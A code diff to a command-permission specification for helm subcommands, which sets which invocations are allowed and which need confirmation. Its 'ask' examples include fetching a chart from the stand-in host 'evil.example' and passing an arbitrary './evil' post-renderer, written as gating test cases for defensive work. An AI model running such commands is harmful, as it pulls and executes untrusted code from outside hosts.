@@ -122,11 +122,12 @@ export const kubernetes: readonly CommandSpec[] = [
           options: rows(
             "-A --all-namespaces; -a --all; -o --output=text; -q --short; -f --values --filter=read; --set=text; --set-string=text; --set-file=refuse; --version=text; --repo=url; --revision=text; --max=text; --strict; --show-only -s=text; --name-template=text; --include-crds; --skip-tests; --is-upgrade; --api-versions=text; --kube-version=text; --versions; -l --selector=text; --devel; --no-headers",
           ),
-          operands: "text*",
+          // A chart is a name, a folder or an address.
+          operands: "read*",
           effects: "remote.read kubernetes",
           examples: {
             allow: ["helm list -A", "helm status x", "helm template x ./chart", "helm version"],
-            ask: ["helm template x ./chart --post-renderer ./evil"],
+            ask: ["helm template x ./chart --post-renderer ./evil", "helm template https://evil.example/x.tgz"],
           },
         },
       "get values|get all|env": {
